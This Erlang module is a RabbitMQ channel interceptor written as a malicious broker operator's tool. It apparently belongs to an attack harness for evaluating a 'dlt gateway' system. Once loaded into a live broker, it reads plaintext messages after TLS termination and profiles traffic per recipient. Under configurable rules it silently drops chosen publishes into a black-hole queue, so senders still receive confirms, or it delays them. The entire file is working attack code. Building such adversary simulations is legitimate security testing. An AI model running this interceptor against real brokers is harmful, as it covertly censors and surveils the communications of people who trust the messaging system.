%% The dishonest broker operator's hook: a RabbitMQ channel interceptor (the behaviour the
%% sharding and message-timestamp plugins use), compiled and loaded into the running broker by
%% `rabbitmqctl eval`, which any operator of the broker can run. It sees every publish after
%% RabbitMQ has terminated TLS: routing key (the recipient's inbox) and the plain body. Rules
%% (set by attacks/gateway/broker_operator.py in a persistent term) drop a publish, by routing
%% it to a black-hole queue so the sender still gets its confirm, or delay it, when its
%% recipient, its sender (the broker-validated user id) and every byte pattern of the rule
%% match. It counts what it saw per recipient and body size, for the report.
-module(dlt_broker_mitm).
-behaviour(rabbit_channel_interceptor).
-export([init/1, description/0, intercept/3, applies_to/0]).

init(_Channel) -> undefined.

description() -> [{description, <<"dlt gateway attack: drop or delay chosen publishes">>}].

applies_to() -> ['basic.publish'].

intercept({'basic.publish', Ticket, <<>>, Key, Mandatory, Immediate} = Method, Content, _) ->
    case persistent_term:get(dlt_broker_mitm_rules, []) of
        [] ->
            {Method, Content};
        Rules ->
            Decoded = rabbit_binary_parser:ensure_content_decoded(Content),
            UserId = element(13, element(3, Decoded)),
            Body = iolist_to_binary(lists:reverse(element(6, Decoded))),
            count({seen, Key}),
            count({size, <<Key/binary, " ", (integer_to_binary(byte_size(Body)))/binary>>}),
            case match(Rules, Key, UserId, Body) of
                nomatch ->
                    {Method, Decoded};
                {Name, drop} ->
                    count({matched, Name}),
                    Hole = persistent_term:get(dlt_broker_mitm_hole),
                    {{'basic.publish', Ticket, <<>>, Hole, Mandatory, Immediate}, Decoded};
                {Name, {delay, Ms}} ->
                    count({matched, Name}),
                    timer:sleep(Ms),
                    {Method, Decoded}
            end
    end;
intercept(Method, Content, _) ->
    {Method, Content}.

match([], _, _, _) ->
    nomatch;
match([{Name, Queue, Sender, Patterns, Action} | Rest], Key, UserId, Body) ->
    Wanted = (Queue =:= any orelse Queue =:= Key)
        andalso (Sender =:= any orelse Sender =:= UserId)
        andalso lists:all(fun(P) -> binary:match(Body, P) =/= nomatch end, Patterns),
    case Wanted of
        true -> {Name, Action};
        false -> match(Rest, Key, UserId, Body)
    end.

count(Key) ->
    catch ets:update_counter(dlt_broker_mitm, Key, 1, {Key, 0}).
